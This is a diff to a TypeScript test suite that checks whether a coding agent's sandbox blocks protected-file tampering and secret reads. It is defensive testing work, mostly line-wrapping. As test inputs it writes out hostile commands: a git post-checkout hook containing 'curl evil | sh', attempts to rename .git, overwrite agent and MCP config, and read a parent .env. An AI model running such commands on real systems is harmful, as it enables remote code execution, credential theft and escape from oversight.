@@ -57,14 +57,21 @@ describe.skipIf(SKIP)("sandbox: true under bypassPermissions", () => {
   it("removes and reports a protected file a command creates, before anything outside reads it; git add sees no placeholder", async () => {
     const ws = place.ws();
     const events: KernelEvent[] = [];
-    const messages = await runBash(["echo '{\"mcpServers\":{}}' > .mcp.json && echo 'export default {}' > ubiquity.config.ts && git add -A && git status --porcelain"], {
-      cwd: ws,
-      sandbox: true,
-      permissionMode: "bypassPermissions",
-      plugins: [{ name: "test:events", apply: (k) => k.hooks.event.tap("test:events", (e) => void events.push(e)) }],
-    });
+    const messages = await runBash(
+      [
+        "echo '{\"mcpServers\":{}}' > .mcp.json && echo 'export default {}' > ubiquity.config.ts && git add -A && git status --porcelain",
+      ],
+      {
+        cwd: ws,
+        sandbox: true,
+        permissionMode: "bypassPermissions",
+        plugins: [{ name: "test:events", apply: (k) => k.hooks.event.tap("test:events", (e) => void events.push(e)) }],
+      },
+    );
     const out = outputs(messages).c0!;
-    expect(out.content).toContain("blocked by the sandbox: .mcp.json is a protected file; the command created it and it was removed");
+    expect(out.content).toContain(
+      "blocked by the sandbox: .mcp.json is a protected file; the command created it and it was removed",
+    );
     expect(out.content).toContain("ubiquity.config.ts is a protected file");
     expect(out.content).not.toContain(".ubiquity"); // git add -A found no placeholder to stage
     expect(existsSync(join(ws, ".mcp.json"))).toBe(false);
@@ -77,15 +84,29 @@ describe.skipIf(SKIP)("sandbox: true under bypassPermissions", () => {
 
   it("a protected folder cannot be renamed away and rebuilt", async () => {
     const ws = place.ws();
-    const out = outputs(await runBash(["mv .git .git2; mv .git/hooks .git/h2; ls -a"], { cwd: ws, sandbox: true, permissionMode: "bypassPermissions" })).c0!;
+    const out = outputs(
+      await runBash(["mv .git .git2; mv .git/hooks .git/h2; ls -a"], {
+        cwd: ws,
+        sandbox: true,
+        permissionMode: "bypassPermissions",
+      }),
+    ).c0!;
     expect(out.content).toContain("Device or resource busy");
     expect(readdirSync(ws).sort()).toEqual([".env", ".git"]);
   });
 
   it("keeps existing agent config read-only and leaves it unchanged", async () => {
     const ws = place.ws();
-    execFileSync("sh", ["-c", "mkdir -p .ubiquity && echo '{}' > .ubiquity/settings.json && echo '{}' > .mcp.json"], { cwd: ws });
-    const out = outputs(await runBash(["echo '{\"x\":1}' > .mcp.json; echo '{\"x\":1}' > .ubiquity/settings.json; rm -f .mcp.json"], { cwd: ws, sandbox: true, permissionMode: "bypassPermissions" })).c0!;
+    execFileSync("sh", ["-c", "mkdir -p .ubiquity && echo '{}' > .ubiquity/settings.json && echo '{}' > .mcp.json"], {
+      cwd: ws,
+    });
+    const out = outputs(
+      await runBash(["echo '{\"x\":1}' > .mcp.json; echo '{\"x\":1}' > .ubiquity/settings.json; rm -f .mcp.json"], {
+        cwd: ws,
+        sandbox: true,
+        permissionMode: "bypassPermissions",
+      }),
+    ).c0!;
     expect(out.content).toContain("Read-only file system");
     expect(readFileSync(join(ws, ".mcp.json"), "utf8")).toBe("{}\n");
     expect(readFileSync(join(ws, ".ubiquity", "settings.json"), "utf8")).toBe("{}\n");
@@ -93,14 +114,19 @@ describe.skipIf(SKIP)("sandbox: true under bypassPermissions", () => {
 
   it("Read(...) deny rules and denyRead make paths unreadable; a private /tmp lasts the run", async () => {
     const ws = place.ws();
-    execFileSync("sh", ["-c", "mkdir -p secrets && echo classified > secrets/plan.txt && echo public > notes.txt"], { cwd: ws });
+    execFileSync("sh", ["-c", "mkdir -p secrets && echo classified > secrets/plan.txt && echo public > notes.txt"], {
+      cwd: ws,
+    });
     const out = outputs(
-      await runBash(["cat secrets/plan.txt", "cat notes.txt", "echo kept > /tmp/note && cat /tmp/note", "cat /tmp/note"], {
-        cwd: ws,
-        sandbox: true,
-        permissionMode: "bypassPermissions",
-        disallowedTools: ["Read(./secrets/**)"],
-      }),
+      await runBash(
+        ["cat secrets/plan.txt", "cat notes.txt", "echo kept > /tmp/note && cat /tmp/note", "cat /tmp/note"],
+        {
+          cwd: ws,
+          sandbox: true,
+          permissionMode: "bypassPermissions",
+          disallowedTools: ["Read(./secrets/**)"],
+        },
+      ),
     );
     expect(out.c0!.content).not.toContain("classified");
     expect(out.c0!.content).toContain("Permission denied");
@@ -116,7 +142,12 @@ describe.skipIf(SKIP)("sandbox: true under bypassPermissions", () => {
     const other = realpathSync(mkdtempSync(join(tmpdir(), "ubq-sbx-other-")));
     try {
       const out = outputs(
-        await runBash([`echo a > ${extra}/a.txt`, `echo b > ${other}/b.txt`], { cwd: place.ws(), additionalDirectories: [extra], sandbox: true, permissionMode: "bypassPermissions" }),
+        await runBash([`echo a > ${extra}/a.txt`, `echo b > ${other}/b.txt`], {
+          cwd: place.ws(),
+          additionalDirectories: [extra],
+          sandbox: true,
+          permissionMode: "bypassPermissions",
+        }),
       );
       expect(out.c0!.isError).toBe(false);
       expect(readFileSync(join(extra, "a.txt"), "utf8")).toBe("a\n");
@@ -133,7 +164,13 @@ describe.skipIf(SKIP)("sandbox: true under bypassPermissions", () => {
     const ws = place.ws();
     rmSync(join(ws, ".git", "hooks"), { recursive: true, force: true });
     const before = readdirSync(join(ws, ".git")).sort();
-    const out = outputs(await runBash(["mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/post-checkout"], { cwd: ws, sandbox: true, permissionMode: "bypassPermissions" })).c0!;
+    const out = outputs(
+      await runBash(["mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/post-checkout"], {
+        cwd: ws,
+        sandbox: true,
+        permissionMode: "bypassPermissions",
+      }),
+    ).c0!;
     expect(out.content).toContain("Read-only file system");
     expect(readdirSync(join(ws, ".git")).sort()).toEqual(before);
     expect(readdirSync(ws).sort()).toEqual([".env", ".git"]);
@@ -164,11 +201,16 @@ describe.skipIf(SKIP)("sandbox: true under bypassPermissions", () => {
     symlinkSync("real.mcp.json", join(ws, ".mcp.json"));
     symlinkSync("missing-target.json", join(ws, "ubiquity.config.json"));
     const out = outputs(
-      await runBash(["echo evil > real.mcp.json; rm .mcp.json && echo '{\"mcpServers\":{}}' > .mcp.json; echo 'export default {}' > missing-target.json"], {
-        cwd: ws,
-        sandbox: { filesystem: { denyWrite: ["./ubiquity.config.json"] } },
-        permissionMode: "bypassPermissions",
-      }),
+      await runBash(
+        [
+          "echo evil > real.mcp.json; rm .mcp.json && echo '{\"mcpServers\":{}}' > .mcp.json; echo 'export default {}' > missing-target.json",
+        ],
+        {
+          cwd: ws,
+          sandbox: { filesystem: { denyWrite: ["./ubiquity.config.json"] } },
+          permissionMode: "bypassPermissions",
+        },
+      ),
     ).c0!;
     expect(out.content).toContain("Read-only file system");
     expect(out.content).toContain(".mcp.json is a protected link; the command replaced it and it was put back");
@@ -183,7 +225,9 @@ describe.skipIf(SKIP)("sandbox: true under bypassPermissions", () => {
     const { mkdirSync } = await import("node:fs");
     const app = join(place.ws(), "packages", "app");
     mkdirSync(app, { recursive: true });
-    const out = outputs(await runBash(["cat ../../.env"], { cwd: app, sandbox: true, permissionMode: "bypassPermissions" })).c0!;
+    const out = outputs(
+      await runBash(["cat ../../.env"], { cwd: app, sandbox: true, permissionMode: "bypassPermissions" }),
+    ).c0!;
     expect(out.content).not.toContain("hunter2");
     expect(out.content).toContain("blocked by the sandbox");
   });
